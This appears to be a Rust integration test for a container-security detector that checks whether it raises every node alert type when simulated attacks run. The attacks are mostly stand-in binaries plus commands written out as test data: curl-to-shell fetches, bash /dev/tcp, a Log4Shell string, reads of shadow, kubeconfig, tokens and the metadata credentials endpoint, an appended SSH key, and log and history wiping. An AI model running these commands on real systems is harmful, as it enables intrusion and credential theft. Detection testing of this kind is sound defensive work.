//! The node alert types from real processes on this kernel, through `palisade run` (eBPF collector, detect,
//! enrich, sink to the alerts file). Commands follow Microsoft's Defender for Containers attack simulation and the
//! matching Atomic Red Team tests (`../shared/corpus/`); where the real tool is absent or would do harm, a copy of
//! /bin/true (or /bin/sleep, /bin/bash) with the tool's name stands in, as Microsoft's simulation does for xmrig.
//! Container-only alerts run inside a container built the way the collector tests build one: its own PID, mount,
//! UTS and IPC namespaces in a kubelet/containerd-style cgroup. A benign workload first must raise nothing.

mod common;

use std::collections::BTreeSet;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use common::{KillOnDrop, Sandbox, alerts, sh, start_node_run as start_run, types_in};

/// A local HTTP server (python's) serving `dir`, on a free port.
fn http_server(dir: &Path) -> (KillOnDrop, u16) {
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let server = KillOnDrop(
        Command::new("python3")
            .args(["-m", "http.server", "--bind", "127.0.0.1", &port.to_string()])
            .current_dir(dir)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
    );
    let deadline = Instant::now() + Duration::from_secs(10);
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() {
        assert!(Instant::now() < deadline, "http server starts");
        std::thread::sleep(Duration::from_millis(50));
    }
    (server, port)
}

#[test]
fn node_alert_types_fire_from_real_processes_and_a_benign_workload_raises_none() {
    let mut sandbox = Sandbox::new();
    let procs = sandbox.container_cgroup("7a1c2e3f-4444-5555-6666-777788889999");
    let work = tempfile::tempdir().unwrap();
    let alerts_path = work.path().join("alerts.jsonl");
    let run = start_run(&alerts_path, &work.path().join("detect-state.json"));
    let d = sandbox.dir.display().to_string();
    let (server, port) = http_server(&sandbox.dir);
    std::fs::write(sandbox.dir.join("index.html"), "<html>ok</html>").unwrap();
    std::fs::write(sandbox.dir.join("hello.c"), "int main(void) { return 0; }\n").unwrap();

    // ---- benign: package queries, a web server answering requests, a build and its binary, a cron-style job,
    // a log rotation, ordinary signals and file edits.
    let benign = [
        "dpkg -l > /dev/null; apt-cache policy bash > /dev/null".to_owned(),
        format!("for i in 1 2 3; do curl -s -o /dev/null http://127.0.0.1:{port}/index.html; done"),
        format!("cc -o {d}/hello {d}/hello.c && {d}/hello"),
        format!("date >> {d}/cron.log; ls -l {d} > /dev/null"),
        format!("echo line >> {d}/app.log; mv {d}/app.log {d}/app.log.1; gzip -f {d}/app.log.1; touch {d}/app.log"),
        format!("sleep 30 & kill $!; echo note >> {d}/home/.bash_history; cat /etc/passwd > /dev/null"),
    ];
    for script in &benign {
        sh(script);
    }
    std::thread::sleep(Duration::from_secs(4));
    let after_benign = alerts(&alerts_path);
    assert!(after_benign.is_empty(), "the benign workload raised alerts: {:#?}", types_in(&after_benign));

    // ---- attacks on the host.
    let bin = |name: &str| sandbox.stand_in(name, "/bin/true");
    let falco = sandbox.stand_in("falco", "/bin/sleep");
    let php_fpm = sandbox.stand_in("php-fpm", "/bin/bash");
    std::fs::write(sandbox.dir.join("payload"), "#!/bin/sh\ntrue\n").unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let listen_port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let mut stream = stream;
                let _ = std::io::copy(&mut stream, &mut std::io::sink());
            });
        }
    });
    let host: Vec<(&str, String)> = vec![
        ("miner binary", format!("{} --version", bin("xmrig"))),
        ("miner start", format!("{} -o stratum+tcp://pool.minexmr.com:4444 -u 4AbC --donate-level 1", bin("xmrig"))),
        ("network scan", format!("{} -Pn --open kubernetes.default/24 -p 443", bin("nmap"))),
        ("credential dump", format!("{} --all", bin("mimipenguin"))),
        ("botnet", bin("kinsing")),
        ("ddos kit", bin("xorddos")),
        ("caldera agent", format!("{} -server http://192.0.2.4:8888 -group red", bin("sandcat.go"))),
        ("download to a hidden file", format!("curl -s -m 1 -o {d}/.cache-x http://192.0.2.1/x")),
        ("download from a malware host", "curl -s -m 1 http://teamtnt.red/x.sh".to_owned()),
        (
            "miner download",
            format!("curl -s -m 1 -o {d}/x https://github.com/xmrig/xmrig/releases/download/v6/xmrig.tar.gz"),
        ),
        ("curl | sh", "sh -c 'curl -s -m 1 http://192.0.2.1/x.sh | sh'".to_owned()),
        (
            "download, then run later",
            format!(
                "curl -s -o {d}/payload-run http://127.0.0.1:{port}/payload; chmod +x {d}/payload-run; {d}/payload-run"
            ),
        ),
        ("bash /dev/tcp", format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{listen_port}; echo hi >&3'")),
        (
            "SOCKS5 greeting",
            format!(
                "python3 -c \"import socket; s=socket.create_connection(('127.0.0.1', {listen_port})); s.send(b'\\x05\\x01\\x00')\""
            ),
        ),
        ("webshell", format!("{php_fpm} -c 'sh -c whoami; true'")),
        ("recon burst", "sh -c 'whoami; id; uname -a; hostname; ps > /dev/null'".to_owned()),
        ("shadow read", "cat /etc/shadow > /dev/null".to_owned()),
        ("kubeconfig read", "cat /etc/kubernetes/admin.conf".to_owned()),
        ("history cleared", format!(": > {d}/home/.bash_history")),
        ("authorized_keys written", format!("echo 'ssh-ed25519 AAAA attacker' >> {d}/home/.ssh/authorized_keys")),
        ("touch -r", format!("touch -r /bin/ls {d}/backdated")),
        ("log wiped", format!("{} -u /var/log/btmp", bin("shred"))),
        ("pre-hashed password", format!("{} -e", bin("chpasswd"))),
        ("uid 0 user", format!("{} -o -u 0 -g 0 toor", bin("useradd"))),
        ("port forward", format!("{} -N -R 8080:203.0.113.8:80 user@jump", bin("ssh"))),
        ("timer disabled", format!("{} stop apt-daily-upgrade.timer", bin("systemctl"))),
        ("privileged container", format!("{} run --privileged -d alpine sleep 1", bin("docker"))),
        ("docker exec --privileged", format!("{} exec --privileged -it web bash", bin("docker"))),
        ("image build", format!("{} build -t local/x .", bin("docker"))),
        (
            "Log4Shell string",
            "curl -s -m 1 -H 'X-Api-Version: ${jndi:ldap://192.0.2.5/a}' http://127.0.0.1:1/".to_owned(),
        ),
        ("nohup hidden temp file", format!("cp /bin/true {d}/.x; nohup {d}/.x > /dev/null")),
        ("security tool killed", format!("{falco} 30 & sleep 0.5; kill -9 $!")),
        ("EICAR trigger", bin("palisade_alerttest_5f3c9e")),
    ];
    // ---- attacks inside a container.
    let inside: Vec<(&str, String)> = vec![
        ("new namespace", "unshare -n true".to_owned()),
        ("ssh server", format!("{} -D", bin("sshd"))),
        ("miner in a container", bin("xmrig")),
        (
            "metadata service",
            "curl -s -m 1 http://169.254.169.254/latest/meta-data/iam/security-credentials".to_owned(),
        ),
        ("service-account token", "cat /var/run/secrets/kubernetes.io/serviceaccount/token".to_owned()),
        (
            "dashboard",
            "curl -s -m 1 -k https://kubernetes-dashboard.kubernetes-dashboard.svc/api/v1/csrftoken/login".to_owned(),
        ),
    ];

    let mut raised: Vec<(String, BTreeSet<String>)> = Vec::new();
    let mut seen = 0;
    let mut run_scenario = |label: &str, script: &str, raised: &mut Vec<(String, BTreeSet<String>)>| {
        sh(script);
        std::thread::sleep(Duration::from_millis(700));
        let now = alerts(&alerts_path);
        let new: BTreeSet<String> =
            now[seen..].iter().map(|a| a["alert_type"].as_str().unwrap_or_default().to_owned()).collect();
        seen = now.len();
        raised.push((label.to_owned(), new));
    };
    for (label, script) in &host {
        run_scenario(label, script, &mut raised);
    }
    for (label, script) in &inside {
        let contained = format!(
            "echo $$ > {procs} && exec unshare --pid --fork --mount --uts --ipc --mount-proc sh -c \"{}\"",
            script.replace('"', "\\\"")
        );
        run_scenario(&format!("{label} (container)"), &contained, &mut raised);
    }
    std::thread::sleep(Duration::from_secs(2));
    let all = alerts(&alerts_path);
    let types = types_in(&all);

    eprintln!("| scenario | alert types raised |\n|---|---|");
    for (label, new) in &raised {
        eprintln!("| {label} | {} |", new.iter().cloned().collect::<Vec<_>>().join(", "));
    }
    eprintln!("alert types: {types:#?}");

    let node_types: Vec<&str> = palisade_detect::catalogue::CATALOGUE
        .iter()
        .filter(|meta| meta.id.starts_with("K8S.NODE_"))
        .map(|meta| meta.id)
        .collect();
    assert_eq!(node_types.len(), 39);
    let missing: Vec<&&str> = node_types.iter().filter(|id| !types.contains_key(**id)).collect();
    assert!(missing.is_empty(), "node alert types not raised: {missing:?}");
    for alert in all.iter().filter(|a| a["alert_type"] == "K8S.NODE_ContainerSSH") {
        assert_eq!(alert["in_container"], true);
        assert!(alert["container_id"].as_str().is_some_and(|c| c.len() == 64), "{alert}");
    }
    let recon = all.iter().filter(|a| a["alert_type"] == "K8S.NODE_ReconnaissanceArtifactsBurst").count();
    assert_eq!(recon, 1, "one burst, one alert");
    drop(server);
    drop(run);
}
